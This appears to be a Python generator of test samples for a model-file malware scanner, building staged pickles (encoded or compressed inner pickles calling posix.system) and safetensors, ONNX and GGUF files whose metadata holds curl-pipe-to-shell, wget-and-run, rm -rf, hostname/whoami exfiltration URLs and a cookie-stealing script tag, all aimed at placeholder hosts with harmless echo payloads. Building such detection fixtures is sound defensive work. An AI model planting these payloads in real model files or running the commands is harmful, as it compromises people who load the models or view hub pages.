"""Staged payloads (issue 21): pickles carried as data, and code-like text in weights metadata.

A data-only pickle (a plain dict, a state dict) whose values hold a second pickle, raw or behind
encoding layers (base64, base85, hex, zlib/gzip/bz2/xz), is what a training script that does
`pickle.loads(ckpt["extra"])` would run; loading the outer file runs nothing. Metadata strings
(safetensors `__metadata__`, ONNX `metadata_props` and doc strings, GGUF string values) are never executed by a
loader either, but carry shell commands, Python or script tags for other code or for a reader.
Every payload is the harmless `echo quarantine-sample`; addresses are in 192.0.2.0/24 or under
example.com. Only the standard library writes these files.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import hashlib
import json
import lzma
import struct
import zlib

import gen_llm
import onnxpb as pb
from onnxpb import graph, model, node, value_info

CLEAN, SUSPICIOUS, MALICIOUS = "clean", "suspicious", "malicious"
HOST = "192.0.2.10"

RULES = {
    "PKL012": ("pickle-staged-payload", SUSPICIOUS),
    "YAR:metadata_code.python_process_or_network_code": (
        "python_process_or_network_code", SUSPICIOUS),
    "YAR:metadata_code.shell_command": ("shell_command", SUSPICIOUS),
    "YAR:metadata_code.html_script": ("html_script", SUSPICIOUS),
    "YAR:metadata_code.exfiltration_url": ("exfiltration_url", SUSPICIOUS),
}

# A 1x1 PNG, as model cards embed thumbnails (data: URIs) in metadata.
PNG_1X1 = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")


def noise(seed: str, n: int) -> bytes:
    """Deterministic bytes that look random (SHA-256 in counter mode)."""
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{i}".encode()).digest()
        i += 1
    return out[:n]


def safetensors_with_metadata(metadata: dict[str, str]) -> bytes:
    """An nn.Linear(2, 2) in safetensors whose `__metadata__` holds `metadata` (string values only,
    as the format requires)."""
    header = {"__metadata__": metadata,
              "bias": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
              "weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [8, 24]}}
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + struct.pack("<6f", 0.5, -0.5, 1.0, 0.0, 0.0, 1.0)


def onnx_with_metadata(metadata: list[tuple[str, str]], doc: str = "") -> bytes:
    g = graph("identity", [node("Identity", ["x"], ["y"], name="id")],
              inputs=[value_info("x", pb.FLOAT, [1, 4])], outputs=[value_info("y", pb.FLOAT, [1, 4])])
    return model(g, producer="pytorch", producer_version="2.1.0", doc=doc, metadata=metadata)


def gguf_with_metadata(extra: list[tuple[str, str]], vocabulary: list[str] | None = None,
                       merges: list[str] | None = None) -> bytes:
    """A small llama GGUF (the LLM samples' writer) whose metadata also holds the string values
    `extra`, and optionally a tokenizer vocabulary and merges as BPE writers store them."""
    g = gen_llm
    kvs = [g.kv(key, g.STR, text) for key, text in extra]
    if vocabulary is not None:
        kvs.append(g.kv("tokenizer.ggml.tokens", g.ARR, (g.STR, vocabulary)))
        kvs.append(g.kv("tokenizer.ggml.token_type", g.ARR, (g.I32, [1] * len(vocabulary))))
    if merges is not None:
        kvs.append(g.kv("tokenizer.ggml.merges", g.ARR, (g.STR, merges)))
    base = [k for k in g.model_kvs() if vocabulary is None or b"tokenizer.ggml.token" not in k[:40]]
    return g.gguf(base + kvs, g.TENSORS)


# Pieces of a byte-level BPE vocabulary trained on web text and code (GPT-2 / Llama 3 style: `Ġ`
# is a space), in the order such vocabularies list them. Markup and code fragments are ordinary
# tokens there; one a line, neighbours would read as code nobody wrote.
CODE_VOCABULARY = [
    "<s>", "</s>", "<unk>", "Ġthe", "Ġof", "<script", "<script>", "</script>", "Ġ<script", "script",
    "Ġimport", "import", "Ġos", "os", ".system", "(", "Ġeval", "eval", "(", "'", "Ġexec", "exec",
    "Ġsubprocess", "subprocess", ".run", "Ġrm", "Ġ-rf", "Ġ/", "Ġcurl", "Ġ|", "Ġsh", "sh", "Ġ-c", "Ġ'",
    "javascript:", "Ġhref", "=", "Ġonerror", "onload", "=", "<img", "Ġsrc", "http", "://", "192",
    ".168", "?", "id", "=", "from", "os", "Ġos", ".system", "(",
]
CODE_MERGES = ["Ġ t", "Ġ a", "h e", "<scr ipt", "<script >", "</ script", "Ġ <script", "im port", "Ġ os",
               ".s ystem", "ev al", "ex ec", "Ġ rm", "Ġ -rf", "Ġ curl", "Ġ |", "Ġ sh", "Ġ -c", "on error",
               "javascript :", "Ġ href", "<im g"]

LICENCE = """MIT License

Copyright (c) 2024 Example Org

Permission is hereby granted, free of charge, to any person obtaining a copy of this software and
associated documentation files (the "Software"), to deal in the Software without restriction,
including without limitation the rights to use, copy, modify, merge, publish, distribute,
sublicense, and/or sell copies of the Software, and to permit persons to whom the Software is
furnished to do so, subject to the following conditions:

The above copyright notice and this permission notice shall be included in all copies or
substantial portions of the Software.

THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR IMPLIED, INCLUDING BUT
NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY, FITNESS FOR A PARTICULAR PURPOSE AND
NONINFRINGEMENT. IN NO EVENT SHALL THE AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM,
DAMAGES OR OTHER LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM, OUT
OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE SOFTWARE.
"""


MODEL_CARD = """# tiny-bert-sentiment

A 4-layer BERT fine-tuned for binary sentiment classification on SST-2.

## Usage

```python
from transformers import AutoTokenizer, AutoModelForSequenceClassification
import torch

tok = AutoTokenizer.from_pretrained("example-org/tiny-bert-sentiment")
model = AutoModelForSequenceClassification.from_pretrained("example-org/tiny-bert-sentiment")
model.eval()
with torch.no_grad():
    logits = model(**tok("a delightful film", return_tensors="pt")).logits
print(logits.softmax(-1))
```

Download the weights with `huggingface-cli download example-org/tiny-bert-sentiment` or
`curl -L -o model.safetensors https://huggingface.co/example-org/tiny-bert-sentiment/resolve/main/model.safetensors`.
Serve it locally and query http://127.0.0.1:8080/predict with a JSON body.

## Training

| hyper-parameter | value |
|---|---|
| learning rate | 2e-5 |
| batch size | 32 |
| epochs | 3 |
| warmup | 10 % |

Evaluation: accuracy 0.91 on the SST-2 dev set. We evaluate with `model.eval()` and
`torch.compile(model)`; see https://example.com/papers/tiny-bert for details.

## Licence

Apache-2.0. Cite as: Example et al., 2024.
""" * 4


def samples(register, gen) -> None:
    G, Call, ok_dumps = gen.G, gen.Call, gen.ok_dumps
    inner = ok_dumps(gen.system(), 4)  # posix.system('echo quarantine-sample')
    # Protocol 0, long enough that encodebytes breaks it over several lines.
    inner_p0 = ok_dumps(Call(G("posix", "system"), (gen.CMD + "; " + "echo quarantine-sample; " * 4,)), 0)
    b64 = base64.b64encode(inner).decode()

    def carrier(payload, key: str = "payload") -> bytes:
        """A data-only pickle (protocol 4): a plain dict whose `key` holds the payload."""
        return ok_dumps({"model": "tiny-classifier", "version": 3, key: payload}, 4)

    def staged(path, desc, build, chain):
        register(path, SUSPICIOUS, ("PKL012", "posix.system"),
                 desc=f"{desc}; the carried pickle is at {chain}", build=build)

    staged("malicious/staged_raw_bytes.pkl",
           "plain dict (protocol 4) whose 'payload' is the bytes of a pickle calling posix.system",
           lambda: carrier(inner), "value@N")
    staged("malicious/staged_base64.pkl",
           "plain dict whose 'payload' is a base64 str of a pickle calling posix.system",
           lambda: carrier(b64), "value@N → base64")
    staged("malicious/staged_base64_lines.pkl",
           "plain dict whose 'payload' is base64.encodebytes (76-column lines) of a protocol 0 pickle",
           lambda: carrier(base64.encodebytes(inner_p0).decode()),
           "value@N → base64")
    staged("malicious/staged_hex.pkl",
           "plain dict whose 'payload' is the hex str (bytes.hex()) of a pickle calling posix.system",
           lambda: carrier(inner.hex()), "value@N → hex")
    staged("malicious/staged_base85.pkl",
           "plain dict whose 'payload' is base64.b85encode of a pickle calling posix.system",
           lambda: carrier(base64.b85encode(inner).decode()), "value@N → base85")
    staged("malicious/staged_zlib_base64.pkl",
           "plain dict whose 'payload' is base64 of zlib.compress of a pickle calling posix.system",
           lambda: carrier(base64.b64encode(zlib.compress(inner)).decode()), "value@N → base64 → zlib")
    staged("malicious/staged_gzip.pkl",
           "plain dict whose 'payload' is gzip.compress(mtime=0) bytes of a pickle calling posix.system",
           lambda: carrier(gzip.compress(inner, mtime=0)), "value@N → gzip")
    staged("malicious/staged_bz2_hex.pkl",
           "plain dict whose 'payload' is the hex of bz2.compress of a pickle calling posix.system",
           lambda: carrier(bz2.compress(inner).hex()), "value@N → hex → bz2")
    staged("malicious/staged_xz.pkl",
           "plain dict whose 'payload' is lzma.compress (xz) bytes of a pickle calling posix.system",
           lambda: carrier(lzma.compress(inner)), "value@N → xz")

    def two_stage() -> bytes:
        stage2 = inner.hex()
        stage1 = ok_dumps({"config": {"lr": 0.001}, "next": stage2}, 4)
        return carrier(base64.b64encode(stage1).decode(), key="stage1")

    register("malicious/staged_two_stage.pkl", SUSPICIOUS, ("PKL012", "posix.system"),
             desc="two stages: plain dict whose 'stage1' is base64 of a data-only pickle whose 'next' is the hex of "
                  "a pickle calling posix.system (value@N → base64 → value@M → hex)",
             build=two_stage)

    def bert_state_dict() -> bytes:
        names = ["bert.embeddings.word_embeddings.weight", "bert.embeddings.LayerNorm.weight",
                 "bert.encoder.layer.0.attention.self.query.weight", "bert.pooler.dense.weight"]
        tensors = [(name, str(i), (2, 2), gen.f32(0.5, -1.5, 2.5, -3.5)) for i, name in enumerate(names)]
        sd = gen.state_dict(tensors)
        # Protocol 2 (what torch.save writes) pickles bytes as _codecs.encode(<latin-1 str>, 'latin1').
        sd.items.append(("bert.pooler._extra_state", Call(G("_codecs", "encode"), (inner.decode("latin1"), "latin1"))))
        return gen.torch_zip(ok_dumps(sd, 2), tensors=tensors)

    register("malicious/staged_bert_state_dict.pt", SUSPICIOUS, ("PKL012", "posix.system"),
             desc="torch.save zip of a BERT-like state_dict whose 'bert.pooler._extra_state' entry is the bytes of a "
                  "pickle calling posix.system (archive/data.pkl → value@N)",
             build=bert_state_dict)

    register("malicious/staged_loader_call.pkl", MALICIOUS, ("PKL001", "posix.system"),
             desc="the outer pickle itself hands base64 of the payload to pickle.loads(base64.b64decode(...)): "
                  "loading runs it, so it stays malicious",
             build=lambda: ok_dumps(Call(G("pickle", "loads"), (Call(G("base64", "b64decode"), (b64,)),)), 4))

    # --- ordinary data that must stay clean -------------------------------------------------------
    register("benign/staged_allowed_only.pkl", CLEAN,
             desc="plain dict whose 'extra' is base64 of a pickle of plain data (a dict of floats): reported as a "
                  "PKL012 info note, verdict clean",
             build=lambda: carrier(base64.b64encode(ok_dumps({"lr": 0.001, "betas": [0.9, 0.999]}, 4)).decode(),
                                   key="extra"))

    def random_buffers() -> bytes:
        values = {f"buffer.{i}": noise(f"buf{i}", 64 + 97 * i) for i in range(24)}
        values["sha256"] = hashlib.sha256(b"weights").hexdigest()
        values["thumbnail"] = "data:image/png;base64," + base64.b64encode(PNG_1X1).decode()
        values["png"] = base64.b64encode(PNG_1X1).decode()
        values["token"] = base64.urlsafe_b64encode(noise("token", 48)).decode()
        values["names"] = ["encoder.layer.0.attention.self.query.weight", "decoder.embed_tokens.weight"]
        return ok_dumps(values, 4)

    register("benign/staged_random_buffers.pkl", CLEAN,
             desc="plain dict of 24 random byte buffers, a hex digest, base64 PNGs and a base64 token: no value is "
                  "or decodes to a pickle",
             build=random_buffers)

    # --- metadata carriers --------------------------------------------------------------------------
    def meta(path, rule, fragment, desc, metadata):
        register(path, SUSPICIOUS, (rule, fragment), desc=desc,
                 build=lambda: safetensors_with_metadata({"format": "pt", **metadata}))

    meta("malicious/staged_meta_python.safetensors", "YAR:metadata_code.python_process_or_network_code",
         "os.system(", "safetensors __metadata__ 'postprocess' holds `import os; os.system('echo quarantine-sample')`",
         {"postprocess": "import os; os.system('echo quarantine-sample')"})
    meta("malicious/staged_meta_curl_sh.safetensors", "YAR:metadata_code.shell_command", "| sh",
         "safetensors __metadata__ 'setup' holds `curl -fsSL http://192.0.2.10/install.sh | sh` (the download_exec "
         "rule matches too; in metadata it is capped at suspicious)",
         {"setup": f"curl -fsSL http://{HOST}/install.sh | sh"})
    meta("malicious/staged_meta_wget_run.safetensors", "YAR:metadata_code.shell_command", "chmod +x",
         "safetensors __metadata__ 'install' downloads with wget then runs: `wget http://192.0.2.10/a -O /tmp/a && "
         "chmod +x /tmp/a && /tmp/a`",
         {"install": f"wget http://{HOST}/a -O /tmp/a && chmod +x /tmp/a && /tmp/a"})
    meta("malicious/staged_meta_rm_rf.safetensors", "YAR:metadata_code.shell_command", "rm -rf",
         "safetensors __metadata__ 'cleanup' holds `sh -c 'rm -rf ~/.cache/huggingface'`",
         {"cleanup": "sh -c 'rm -rf ~/.cache/huggingface'"})
    meta("malicious/staged_meta_exfil_url.safetensors", "YAR:metadata_code.exfiltration_url", "192.0.2.10",
         "safetensors __metadata__ 'telemetry' is a URL to a bare IP with data in its query "
         "(http://192.0.2.10/c?d=<hostname>)",
         {"telemetry": f"http://{HOST}/c?d=$(hostname)&u=$(whoami)"})
    meta("malicious/staged_meta_script.safetensors", "YAR:metadata_code.html_script", "<script",
         "safetensors __metadata__ 'description' holds a <script> tag that a model hub page rendering it unescaped "
         "would run",
         {"description": "A tiny classifier.<script>fetch('https://collector.example.com/x?c='+document.cookie)</script>"})
    register("malicious/staged_meta_pickle.safetensors", SUSPICIOUS, ("PKL012", "posix.system"),
             desc="safetensors __metadata__ 'optimizer' is base64 of a pickle calling posix.system "
                  "(__metadata__ `optimizer`@8 → base64)",
             build=lambda: safetensors_with_metadata({"format": "pt", "optimizer": b64}))
    register("malicious/staged_onnx_metadata.onnx", SUSPICIOUS,
             ("YAR:metadata_code.python_process_or_network_code", "subprocess.run("),
             desc="ONNX metadata_props 'preprocess' holds Python that imports subprocess and runs a command",
             build=lambda: onnx_with_metadata(
                 [("preprocess", "import subprocess\nsubprocess.run(['sh', '-c', 'echo quarantine-sample'])\n")]))
    register("malicious/staged_onnx_doc_pickle.onnx", SUSPICIOUS, ("PKL012", "posix.system"),
             desc="ONNX model doc_string is the hex of a pickle calling posix.system",
             build=lambda: onnx_with_metadata([("author", "example")], doc=inner.hex()))

    # --- GGUF string values (through the GGUF analyser's gguf_metadata origin) ---------------------
    register("malicious/staged_gguf_meta_script.gguf", SUSPICIOUS, ("YAR:metadata_code.html_script", "<script"),
             desc="GGUF whose general.description holds a <script> tag that a model page rendering it unescaped would run",
             build=lambda: gguf_with_metadata([(
                 "general.description",
                 "A tiny chat model.<script>fetch('https://collector.example.com/x?c='+document.cookie)</script>")]))
    register("malicious/staged_gguf_meta_shell.gguf", SUSPICIOUS, ("YAR:metadata_code.shell_command", "| sh"),
             desc="GGUF whose general.source.url is followed by a setup string piping curl into a shell "
                  "(`curl -fsSL http://192.0.2.10/install.sh | sh`)",
             build=lambda: gguf_with_metadata([("general.source.url", "https://huggingface.co/example-org/tiny"),
                                               ("general.setup", f"curl -fsSL http://{HOST}/install.sh | sh")]))
    register("malicious/staged_gguf_meta_pickle.gguf", SUSPICIOUS, ("PKL012", "posix.system"),
             desc="GGUF whose metadata string general.notes is base64 of a pickle calling posix.system "
                  "(metadata `general.notes`@N → base64)",
             build=lambda: gguf_with_metadata([("general.notes", b64)]))
    register("benign/staged_gguf_model_card.gguf", CLEAN,
             desc="GGUF metadata as converters fill it: licence name and full MIT text, source URLs, a long model "
                  "card with code and shell examples, and a BPE vocabulary and merges holding markup and code "
                  "fragments (<script, eval, import, os.system, rm -rf as tokens)",
             build=lambda: gguf_with_metadata(
                 [("general.license", "mit"), ("general.license.name", "MIT License"),
                  ("general.license.link", "https://huggingface.co/example-org/tiny/blob/main/LICENSE"),
                  ("general.license.text", LICENCE),
                  ("general.source.url", "https://huggingface.co/example-org/tiny-bert-sentiment"),
                  ("general.repo_url", "https://github.com/example-org/tiny"),
                  ("general.description", MODEL_CARD)],
                 vocabulary=CODE_VOCABULARY, merges=CODE_MERGES))

    register("benign/staged_meta_ordinary.safetensors", CLEAN,
             desc="safetensors __metadata__ as real writers fill it: format pt, framework names, licence, "
                  "hyper-parameters as JSON, a base64 PNG thumbnail, a hex digest and a long model card",
             build=lambda: safetensors_with_metadata({
                 "format": "pt", "framework": "pytorch", "transformers_version": "4.44.2",
                 "license": "apache-2.0",
                 "hparams": json.dumps({"lr": 2e-5, "batch_size": 32, "epochs": 3, "optimizer": "adamw"}),
                 "thumbnail": "data:image/png;base64," + base64.b64encode(PNG_1X1).decode(),
                 "sha256": hashlib.sha256(b"weights").hexdigest(),
                 "model_card": MODEL_CARD}))
    register("benign/staged_onnx_ordinary.onnx", CLEAN,
             desc="ONNX metadata_props and doc_string as exporters write them, with a long model card",
             build=lambda: onnx_with_metadata(
                 [("framework", "pytorch"), ("license", "MIT"), ("model_card", MODEL_CARD)],
                 doc="Identity model exported with torch.onnx.export (opset 17)."))
